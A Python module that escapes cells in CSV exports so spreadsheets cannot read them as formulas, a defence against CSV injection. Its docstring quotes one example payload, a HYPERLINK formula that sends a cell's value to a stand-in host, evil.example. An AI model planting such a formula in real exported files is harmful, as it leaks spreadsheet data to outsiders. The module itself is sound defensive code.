"""Writing CSV files that are safe to open in a spreadsheet (a leaf: imports nothing of ours).

A cell starting with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return) is read by Excel,
LibreOffice and Google Sheets as a formula: a lead attribute such as
``=HYPERLINK("http://evil.example/?"&A1, "open")`` would run when an analyst opens the file.
Every CSV the tool writes goes through :func:`write_csv`, which prefixes such text cells (and
index labels) with a single quote, as OWASP recommends; numbers are written as they are, so a
negative number stays a number.

>>> import pandas as pd
>>> escape_formulas(pd.DataFrame({"who": ["=HYPERLINK(1)", "ann", "-x"], "n": [-1, 2, 3]}))
              who  n
0  '=HYPERLINK(1) -1
1             ann  2
2             '-x  3
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pandas as pd

__all__ = ["FORMULA_STARTS", "escape_formulas", "write_csv"]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""What a spreadsheet cell must not start with to be read as text."""


def _escape(value: Any) -> Any:
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def _escape_index(index: pd.Index) -> pd.Index:
    if isinstance(index, pd.MultiIndex):
        return index.set_levels([_escape_index(level) for level in index.levels])
    if index.dtype == object or isinstance(index.dtype, pd.CategoricalDtype | pd.StringDtype):
        return index.map(_escape)
    return index


def escape_formulas(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells, index labels and column names cannot be read as
    formulas (prefixed with ``'``); numbers, dates and missing values are left as they are."""
    out = frame.copy()
    for i in range(out.shape[1]):
        s = out.iloc[:, i]
        if s.dtype == object or isinstance(s.dtype, pd.CategoricalDtype | pd.StringDtype):
            out.isetitem(i, s.astype(object).map(_escape, na_action="ignore"))
    out.columns = _escape_index(out.columns)
    out.index = _escape_index(out.index)
    return out


def write_csv(frame: pd.DataFrame, path: str | Path, **kwargs: Any) -> Path:
    """Write ``frame`` as CSV (``DataFrame.to_csv`` keywords) with formulas escaped."""
    escape_formulas(frame).to_csv(path, **kwargs)
    return Path(path)
